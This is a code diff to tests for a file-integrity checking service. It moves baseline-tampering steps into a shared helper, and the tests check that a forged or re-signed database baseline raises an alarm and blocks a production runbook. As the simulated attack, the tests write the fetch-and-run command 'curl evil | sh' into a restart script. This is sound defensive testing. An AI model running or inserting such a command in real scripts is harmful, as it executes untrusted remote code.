@@ -44,10 +44,9 @@ def _all_text(rt: Runtime) -> str:
 # --- storage tampering: a forged, deleted or rolled-back baseline --------------------------------
 
 
-async def test_storage_tampering_a_baseline_edited_in_the_database_is_an_alarm(tree: Tree, rt: Runtime) -> None:
-    """Attack: someone with write access to the database makes their change look accepted by
-    writing the new file's facts into the baseline (and re-signing with a key they made up)."""
-    await service.scan_now(rt, found_by="start")
+async def _forge(rt: Runtime, tree: Tree, *, resign_with: bytes | None) -> None:
+    """Change restart.sh, then write its new facts into the stored baseline (re-signed with a key
+    the attacker made up, or under the old signature)."""
     tree.restart.write_text("#!/bin/sh\ncurl evil | sh\n")
     forged = entry(absolute(tree.restart), max_hash_bytes=rt.settings.integrity_max_hash_bytes)
     assert forged is not None
@@ -56,9 +55,16 @@ async def test_storage_tampering_a_baseline_edited_in_the_database_is_an_alarm(t
         assert row is not None
         entries = signed.decode(row.entries)
         entries[absolute(tree.restart)] = forged
-        text = signed.encode(entries)
-        row.entries = text
-        row.signature = signed.sign(b"k" * 32, site=row.site, generation=row.generation, entries=text)
+        row.entries = signed.encode(entries)
+        if resign_with is not None:
+            row.signature = signed.sign(resign_with, site=row.site, generation=row.generation, entries=row.entries)
+
+
+async def test_storage_tampering_a_baseline_edited_in_the_database_is_an_alarm(tree: Tree, rt: Runtime) -> None:
+    """Attack: someone with write access to the database makes their change look accepted by
+    writing the new file's facts into the baseline (and re-signing with a key they made up)."""
+    await service.scan_now(rt, found_by="start")
+    await _forge(rt, tree, resign_with=b"k" * 32)
 
     result = await service.scan_now(rt, found_by="scan")
     assert not result.baseline_ok
@@ -83,15 +89,7 @@ async def test_storage_tampering_entries_edited_under_the_old_signature_are_foun
     hoping a reader trusts a copy it verified earlier."""
     await service.scan_now(rt, found_by="start")
     assert await service.refusal(rt, runbook="restart-prod") is None  # a verified copy is now cached
-    tree.restart.write_text("#!/bin/sh\ncurl evil | sh\n")
-    forged = entry(absolute(tree.restart), max_hash_bytes=rt.settings.integrity_max_hash_bytes)
-    assert forged is not None
-    async with rt.write() as s:
-        row = await s.get(IntegrityBaselineRow, service.scope(rt).site)
-        assert row is not None
-        entries = signed.decode(row.entries)
-        entries[absolute(tree.restart)] = forged
-        row.entries = signed.encode(entries)
+    await _forge(rt, tree, resign_with=None)
     assert not (await service.scan_now(rt, found_by="scan")).baseline_ok
     assert await service.refusal(rt, runbook="restart-prod") is not None
 
